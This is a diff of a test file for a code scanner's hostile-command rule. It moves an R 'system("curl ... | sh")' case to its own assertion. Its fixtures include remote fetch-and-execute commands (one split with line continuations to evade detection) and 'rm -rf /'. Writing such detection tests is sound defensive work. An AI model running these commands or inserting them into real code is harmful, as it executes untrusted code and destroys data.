@@ -187,9 +187,12 @@ test('commands of tasks, scripts and images', async () => {
     ['run.sh', 'cu\\\nrl https://example.com/x | s\\\nh'],
     ['run.sh', 'rm -rf /'],
     ['cog.yaml', 'build:\n  run:\n    - curl https://example.com/x | sh'],
-    ['model.R', 'system("curl https://example.com/x | sh")'],
   ] as const)
     assert.deepEqual(await rules(name, `${command}\n`), ['code.hostile-command'], command);
+  assert.deepEqual(await rules('model.R', 'system("curl https://example.com/x | sh")\n'), [
+    'code.runs-command',
+    'code.hostile-command',
+  ]);
   for (const [name, command] of [
     ['Dockerfile', 'RUN apt-get install -y curl && rm -rf /var/lib/apt/lists/*'],
     ['Dockerfile', 'RUN curl -o /usr/bin/tini https://example.com/tini && chmod +x /usr/bin/tini'],
